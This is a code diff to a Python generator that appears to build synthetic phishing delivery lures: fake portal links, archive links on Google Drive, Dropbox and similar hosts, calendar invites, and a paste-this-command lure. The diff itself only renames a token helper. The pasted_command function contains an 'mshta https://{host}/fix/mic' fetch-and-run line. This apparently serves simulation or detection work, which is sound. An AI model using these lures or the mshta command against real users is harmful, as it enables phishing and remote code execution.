@@ -134,7 +134,7 @@ def portal(scene: Scene) -> Delivery:
     return Delivery(
         "link",
         (),
-        f"https://{host}/{where}?{scene.rng.choice(('id', 'token', 'req'))}={_token(scene, 18)}",
+        f"https://{host}/{where}?{scene.rng.choice(('id', 'token', 'req'))}={token(scene, 18)}",
     )
 
 
@@ -146,11 +146,11 @@ def portal_with_paper(scene: Scene) -> Delivery:
 def file_host(scene: Scene) -> Delivery:
     """An archive at a well-known place to drop files; the path is made up."""
     rng, name = scene.rng, file_name(scene, scene.rng.choice((".zip", ".rar", ".7z")))
-    key = _token(scene, 33)
+    key = token(scene, 33)
     url = rng.choice(
         (
             f"https://drive.google.com/file/d/1{key}/view?usp=sharing",
-            f"https://www.dropbox.com/scl/fi/{key}/offer.zip?rlkey={_token(scene, 20)}&dl=1",
+            f"https://www.dropbox.com/scl/fi/{key}/offer.zip?rlkey={token(scene, 20)}&dl=1",
             f"https://1drv.ms/u/s!A{key}",
             f"https://we.tl/t-{key}",
             f"https://mega.nz/file/{key[:8]}#{key}",
@@ -215,7 +215,7 @@ def calendar_entry(scene: Scene) -> Delivery:
         scene.to_address,
         f"{day}T{int(scene.slots['hour']):02}0000Z",
         f"{day}T{int(scene.slots['hour']):02}4500Z",
-        _token(scene, 40),
+        token(scene, 40),
     )
     return Delivery("ics", (File("invite.ics", "text/calendar; method=REQUEST", data),), url)
 
@@ -231,9 +231,10 @@ def pasted_command(scene: Scene) -> Delivery:
             f"mshta https://{host}/fix/mic",
         )
     )
-    return Delivery("link", (), f"https://{host}/s/{_token(scene, 14)}")
+    return Delivery("link", (), f"https://{host}/s/{token(scene, 14)}")
 
 
-def _token(scene: Scene, length: int) -> str:
+def token(scene: Scene, length: int) -> str:
+    """Letters and digits that no eye confuses."""
     letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
     return "".join(scene.rng.choice(letters) for _ in range(length))
